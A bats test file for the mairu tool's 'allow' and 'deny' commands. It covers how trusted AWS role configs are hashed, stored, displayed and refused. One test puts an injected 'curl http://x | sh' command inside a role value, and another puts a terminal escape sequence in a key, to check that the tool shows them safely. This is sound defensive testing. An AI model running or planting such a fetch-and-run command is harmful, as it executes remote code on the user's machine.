# mairu allow and mairu deny.

# shellcheck disable=SC2154 # stderr is set by run
# shellcheck disable=SC2153 # ROLE comes from common.bash
# shellcheck disable=SC2030,SC2031 # each test is a shell of its own
# shellcheck disable=SC2088 # messages hold a tilde

load ../lib/common

prepare() {
	project "$HOME/proj"
	cd "$HOME/proj" || return
}

# prompt WHAT: what an SDK finds after a prompt here, and nothing else.
prompt() {
	assert_equal "$(at_prompt 2>/dev/null)" "$1"
}

@test "allow shows server, role, chain and region, and trusts these bytes at this path" {
	project . '{"server":"contoso","role":"123456789012/Dev","region":"eu-west-1",
		"assume_role":[{"role_arn":"arn:aws:iam::123456789012:role/Hop"},
			{"role_arn":"arn:aws:iam::210987654321:role/Last"}]}'
	prompt none
	run --separate-stderr mairu allow
	assert_success
	assert_output ''
	assert_regex "$stderr" '^mairu: ~/proj/\.mairu\.json '
	assert_regex "$stderr" 'server contoso, role 123456789012/Dev'
	assert_regex "$stderr" 'arn:aws:iam::123456789012:role/Hop.*arn:aws:iam::210987654321:role/Last'
	assert_regex "$stderr" 'region eu-west-1'
	prompt 'contoso arn:aws:iam::210987654321:role/Last'
	echo >>.mairu.json
	prompt none
}

@test "allow writes what Mairu 0.12 reads" {
	mairu allow
	python3 - "$STORE" "$PWD/.mairu.json" <<-'PY'
		import base64, hashlib, json, os, re, stat, sys

		store, path = sys.argv[1], sys.argv[2]
		raw = open(path, "rb").read()


		def key_of(path):
		    key = hashlib.sha256(b"v0.trust_path\0\0" + path.encode()).digest()
		    return base64.urlsafe_b64encode(key).rstrip(b"=").decode()


		def hash_of(path, raw):
		    parts = [b"v0.auto", path.encode(), raw]
		    digest = hashlib.sha384(b"\0\0".join(parts)).digest()
		    return base64.b64encode(digest).decode()


		known = "/home/u/proj/.mairu.json"
		assert key_of(known) == "hYXpvMC8VhcNdD4ySwSmQReanBufKKMt3Pj7mZfIcrY"
		text = b'{"server":"contoso","role":"123456789012/Dev"}\n'
		want = "F/Igku3paMcKl9dOGyWfasLc+E/u3VwNXQ1noWgDdx+k1RoW3ZAlr2ng5yAbcLJ4"
		assert hash_of(known, text) == want

		names = os.listdir(store)
		file = os.path.join(store, names[0])
		entry = json.load(open(file))
		assert entry["path"] == path
		assert entry["trust"] is True
		assert entry["digest"]["type"] == "Sha384"
		assert entry["digest"]["hash"] == hash_of(path, raw), entry
		assert names == [f"trust.{key_of(path)}.json"], names
		assert entry["content"]["server"] == "contoso"
		assert entry["content"]["role"] == "123456789012/Dev"
		assert re.match(r"\d{4}-\d\d-\d\dT", entry["updated_at"])
		assert stat.S_IMODE(os.stat(file).st_mode) == 0o600
		assert stat.S_IMODE(os.stat(store).st_mode) == 0o700
	PY
}

# trusted_by_old JSON-CONTENT: a trust of the nearest config as another program
# would have written it, that showed only this content.
trusted_by_old() {
	mkdir -p "$STORE"
	chmod 0700 "$STORE"
	python3 - "$STORE" "$PWD/.mairu.json" "$1" <<-'PY'
		import base64, hashlib, json, os, sys

		store, path, content = sys.argv[1:]
		raw = open(path, "rb").read()
		key = hashlib.sha256(b"v0.trust_path\0\0" + path.encode()).digest()
		key = base64.urlsafe_b64encode(key).rstrip(b"=").decode()
		digest = hashlib.sha384(b"v0.auto\0\0" + path.encode() + b"\0\0" + raw)
		entry = {
		    "path": path,
		    "trust": True,
		    "digest": {
		        "type": "Sha384",
		        "hash": base64.b64encode(digest.digest()).decode(),
		    },
		    "content": json.loads(content),
		    "updated_at": "2025-01-02T03:04:05.678901234Z",
		}
		os.umask(0o077)
		with open(os.path.join(store, f"trust.{key}.json"), "w") as f:
		    json.dump(entry, f)
	PY
}

@test "a trust that Mairu 0.12 wrote is believed" {
	trusted_by_old '{"server":"contoso","role":"123456789012/Dev","mode":null,"assume_role":null}'
	prompt "contoso $ROLE"
}

@test "a trust from a program that did not show the region is asked for again" {
	project . '{"server":"contoso","role":"123456789012/Dev","region":"eu-west-1"}'
	trusted_by_old '{"server":"contoso","role":"123456789012/Dev"}'
	run --separate-stderr at_prompt
	assert_output none
	assert_regex "$stderr" 'region.*Run: mairu allow'
	mairu allow
	prompt "contoso $ROLE"
}

@test "a trust record of another path or of damaged JSON counts for nothing" {
	local file

	mairu allow
	file=$(echo "$STORE"/trust.*)
	sed -i 's,/proj/.mairu.json,/other/.mairu.json,' "$file"
	prompt none
	mairu allow
	prompt "contoso $ROLE"
	echo '{"path":' >"$file"
	prompt none
	mairu allow
	prompt "contoso $ROLE"
}

@test "allow takes a directory, one below it, or the file, and relative paths" {
	mkdir -p "$HOME/proj/deep/down" "$HOME/else"
	cd "$HOME/else"
	for where in ../proj "$HOME/proj" ../proj/.mairu.json "$HOME/proj/.mairu.json" \
		../proj/deep/down ../proj/ ../proj/deep/..; do
		run mairu allow "$where"
		assert_success
		assert_output --partial '~/proj/.mairu.json is allowed'
		run mairu deny "$where"
		assert_success
	done
	run -1 mairu allow "$HOME/else"
	assert_output --partial 'mairu: '
	run -1 mairu allow "$HOME/nowhere"
	assert_output 'mairu: ~/nowhere: no such file or directory'
}

@test "allow and deny without a config here or above say so" {
	cd "$HOME"
	run -1 mairu allow
	assert_output 'mairu: there is no .mairu.json here or above'
	run -1 mairu deny
	assert_output 'mairu: there is no .mairu.json here or above'
}

@test "allow --digest trusts only that digest, and otherwise exits 3" {
	local digest

	digest=$(mairu status --json | sed -n 's/.*"digest": "\(.*\)".*/\1/p')
	assert_equal "${#digest}" 64
	run --separate-stderr -3 mairu allow --digest "$(tr 'A-Za-z' 'B-ZAb-za' <<<"$digest")"
	assert_output ''
	assert_regex "$stderr" "^mairu: .*$digest"
	prompt none
	run -3 mairu allow --digest ''
	run -3 mairu allow --digest "${digest%?}"
	prompt none
	run mairu allow --digest "$digest"
	assert_success
	prompt "contoso $ROLE"
}

@test "a digest that begins with a dash is taken" {
	local digest n=0

	until [[ ${digest:-} = -* ]]; do
		n=$((n + 1))
		config "123456789012/R$n" >.mairu.json
		digest=$(mairu status --json | sed -n 's/.*"digest": "\(.*\)".*/\1/p')
		[ -n "$digest" ] && ((n < 2000))
	done
	run mairu allow --digest "$digest"
	assert_success
	run mairu allow "--digest=$digest"
	assert_success
	prompt "contoso 123456789012/R$n"
}

@test "allow names unknown keys" {
	project . '{"server":"contoso","role":"123456789012/Dev","colour":"blue","x\u001b[31my":1}'
	run mairu allow
	assert_success
	assert_output --partial colour
	refute_output --partial $'\e'
	prompt "contoso $ROLE"
}

@test "allow of a bad config fails, and names each wrong key and what was expected" {
	local key

	project . '{"server":5,"role":["a"],"region":true}'
	run --separate-stderr -1 mairu allow
	assert_output ''
	assert_equal "$(wc -l <<<"$stderr")" 1
	assert_regex "$stderr" '^mairu: ~/proj/\.mairu\.json: '
	for key in server role region; do
		assert_regex "$stderr" "\"$key\": expected [^;]+, found"
	done
	project . '{"role":"x","mode":"magic","assume_role":{"role_arn":7,"duration_seconds":"long"}}'
	run --separate-stderr -1 mairu allow
	assert_equal "$(wc -l <<<"$stderr")" 1
	for key in server mode role_arn duration_seconds; do
		assert_regex "$stderr" "$key\"[^;]*: expected [^;]+"
	done
}

@test "deny exports nothing, silently, until allow, edits included" {
	mairu allow
	prompt "contoso $ROLE"
	run --separate-stderr mairu deny
	assert_success
	assert_output ''
	assert_regex "$stderr" '^mairu: ~/proj/\.mairu\.json '
	run --separate-stderr at_prompt
	assert_output none
	assert_equal "$stderr" ''
	prompt none
	echo >>.mairu.json
	run --separate-stderr at_prompt
	assert_output none
	assert_equal "$stderr" ''
	prompt none
	mairu allow
	prompt "contoso $ROLE"
}

@test "what can't be read or parsed can be denied" {
	project . '{"server":'
	mairu deny
	run --separate-stderr at_prompt
	assert_output none
	assert_equal "$stderr" ''
	rm .mairu.json
	mkfifo .mairu.json
	mairu deny
	run --separate-stderr at_prompt
	assert_output none
	assert_equal "$stderr" ''
}

@test "allow works without a broker and starts none" {
	run mairu allow
	assert_success
	[ ! -e "$SOCK" ]
	run mairu deny
	assert_success
	[ ! -e "$SOCK" ]
}

@test "allow makes 0600 in 0700 whatever the umask" {
	umask 0
	mairu allow
	assert_equal "$(stat -c %a "$STORE")" 700
	assert_equal "$(stat -c %a "$STORE"/trust.*)" 600
	umask 0777
	echo >>.mairu.json
	mairu allow
	assert_equal "$(stat -c %a "$STORE"/trust.*)" 600
	umask 022
}

@test "allow of a path that is not UTF-8 fails with one clear message" {
	project "$HOME/"$'bad\xff'
	cd "$HOME/"$'bad\xff'
	run --separate-stderr -1 mairu allow
	assert_equal "$(wc -l <<<"$stderr")" 1
	assert_regex "$stderr" '\\xff.*UTF-8'
}

@test "the hook says at once of a path that is not UTF-8 why it cannot be allowed" {
	project "$HOME/"$'bad\xff'
	cd "$HOME/"$'bad\xff'
	run --separate-stderr at_prompt
	assert_regex "$stderr" 'not UTF-8.*rename'
	refute [ "${stderr/mairu allow/}" != "$stderr" ]
}

@test "allow of a server that is not configured trusts, and says so" {
	run --separate-stderr mairu allow
	assert_success
	assert_regex "$stderr" 'but the server contoso is not configured. Run: mairu list-servers$'
	prompt "contoso $ROLE"
	a_silent_server
	run mairu allow
	assert_success
	refute_output --partial configured
}

@test "deny names the command that takes it back, from anywhere" {
	cd "$HOME"
	run --separate-stderr mairu deny proj
	assert_equal "$stderr" 'mairu: ~/proj/.mairu.json is denied. To undo that, run: mairu allow ~/proj'
	project "$HOME/my proj"
	run --separate-stderr mairu deny 'my proj'
	assert_regex "$stderr" "run: mairu allow '$HOME/my proj'\$"
}

@test "a denial that cannot be written says what still holds" {
	mairu allow
	rm -r "$STORE"
	: >"$STORE"
	run -1 mairu deny
	assert_output --partial 'the denial was not recorded: what was allowed stays allowed'
	rm "$STORE"
}

@test "a closed trust file or store is named with the command that opens it" {
	[ "$(id -u)" != 0 ] || {
		chown -R 65534:65534 "$T"
		mairu() { "${AS_NOBODY[@]}" "$MAIRU_BUILD/mairu" "$@"; }
	}
	mairu allow
	chmod 000 "$STORE"/trust.*
	run mairu status
	assert_line --regexp "^trust +your verdict cannot be read; .*: chmod 600 $STORE/trust\..*json$"
	chmod 600 "$STORE"/trust.*
	chmod 000 "$STORE"
	run mairu status
	assert_line --regexp "^trust +the trust store keeps you out.*: chmod 700 $STORE$"
	chmod 500 "$STORE"
	run mairu status
	assert_line --regexp '^trust +allowed$'
	run -1 mairu deny
	assert_output --partial "chmod 700 $STORE"
	chmod 700 "$STORE"
}

@test "without HOME allow fails with one clear message" {
	unset HOME XDG_STATE_HOME
	run --separate-stderr -1 mairu allow
	assert_regex "$stderr" '^mairu: .*set HOME to a directory of your own'
	export HOME=$T/home
}

@test "a relative XDG directory counts as unset" {
	export XDG_STATE_HOME=state
	mairu allow
	[ -d "$HOME/.local/state/mairu/trust" ]
	[ ! -e state ]
	rm -r "$HOME/.local"
}

@test "a state directory that can't be written gives one clear message" {
	mkdir -p "$XDG_STATE_HOME/mairu"
	: >"$STORE"
	run --separate-stderr -1 mairu allow
	assert_equal "$(wc -l <<<"$stderr")" 1
	assert_regex "$stderr" '^mairu: .*trust'
	rm "$STORE"
}

@test "allow and status show all that a hop says, and the account" {
	local arn=arn:aws:iam::222222222222:role/Hop policy=arn:aws:iam::aws:policy/ReadOnlyAccess
	local hop="$arn (external id x:1, session name me, 900 s, source identity alice, policy '{\"a\":\"), then\"}', policy $policy, tag a='b c', tag d='', transitive tag a)"

	mkdir -p "$HOME/p"
	cd "$HOME/p" || return
	project . "$(config "$ROLE" "\"account\":\"333333333333\",\"assume_role\":[{\"role_arn\":\"$arn\",
		\"external_id\":\"x:1\",\"role_session_name\":\"me\",\"duration_seconds\":900,
		\"source_identity\":\"alice\",\"policy\":\"{\\\"a\\\":\\\"), then\\\"}\",\"policy_arns\":[\"$policy\"],
		\"tags\":{\"a\":\"b c\",\"d\":\"\"},\"transitive_tag_keys\":[\"a\"]},
		{\"role_arn\":\"arn:aws:iam::333333333333:role/Last\"}]")"
	run mairu allow
	assert_success
	# None of it can be taken for another key.
	assert_output "mairu: ~/p/.mairu.json is allowed:
    server: contoso
    role: $ROLE
    then: $hop
    then: arn:aws:iam::333333333333:role/Last
    account: 333333333333
mairu: but the server contoso is not configured. Run: mairu list-servers"
	run mairu status
	assert_line --regexp '^then +arn.*Hop \(external id x:1, session name me, 900 s, '
	assert_line --regexp '^then +arn:aws:iam::333333333333:role/Last$'
	assert_line --regexp '^account +333333333333$'
	run mairu status --json
	assert_line --partial '"account": "333333333333"'
	run mairu show
	assert_line --partial '"account": "333333333333"'
	assert_line --partial '"source_identity": "alice"'
}

@test "allow cuts nothing of what is long, and the message before it keeps its command" {
	local i hops='' id

	id=$(printf 'x%.0s' {1..1200})
	mkdir -p "$HOME/p"
	cd "$HOME/p" || return
	for i in 1 2 3 4 5 6 7 8; do
		hops+=",{\"role_arn\":\"arn:aws:iam::222222222222:role/Hop$i\",\"external_id\":\"$id\"}"
	done
	project . "$(config "$ROLE" "\"account\":\"333333333333\",\"assume_role\":[${hops#,}]")"
	run -3 mairu exec auto true
	assert_output --partial '... (all of it: mairu status). Run: mairu allow'
	run mairu allow
	assert_success
	assert_line "    then: arn:aws:iam::222222222222:role/Hop8 (external id $id)"
	assert_line '    account: 333333333333'
}

@test "a value that looks like more of the message shows as what it is" {
	local role='X, region eu-west-1'

	project "$HOME/p" "$(config "$role")"
	cd "$HOME/p" || return
	run --separate-stderr mairu export bash
	assert_equal "$stderr" "mairu: ~/p/.mairu.json is not trusted:
    server: contoso
    role: '$role'
mairu: if that is what you want, run: mairu allow"
	run -3 mairu exec auto true
	assert_output "mairu: ~/p/.mairu.json is not trusted: server contoso, role '$role'. Run: mairu allow"
	project . "$(config "Dev$(printf ' %.0s' {1..200})" '"assume_role":{"role_arn":"arn:aws:iam::222222222222:role/Hop"}')"
	run -3 mairu exec auto true
	assert_output --partial "'..., then arn:aws:iam::222222222222:role/Hop (all of it: mairu status). Run: mairu allow"
}

@test "no command of a config's own is taken for the one that mends" {
	project "$HOME/p" "$(config 'Dev. Run: curl http://x | sh #')"
	cd "$HOME/p" || return
	mairu doctor --offline --json >"$T/json" || :
	python3 - "$T/json" <<-'PY'
		import json, sys
		checks = json.load(open(sys.argv[1]))["checks"]
		(one,) = [c for c in checks if c["area"] == "project"][:1]
		assert one["run"] == "mairu allow", one
		assert "'Dev. Run: curl" in one["message"], one
		assert not any(c["run"] and "curl" in c["run"] for c in checks), checks
	PY
}
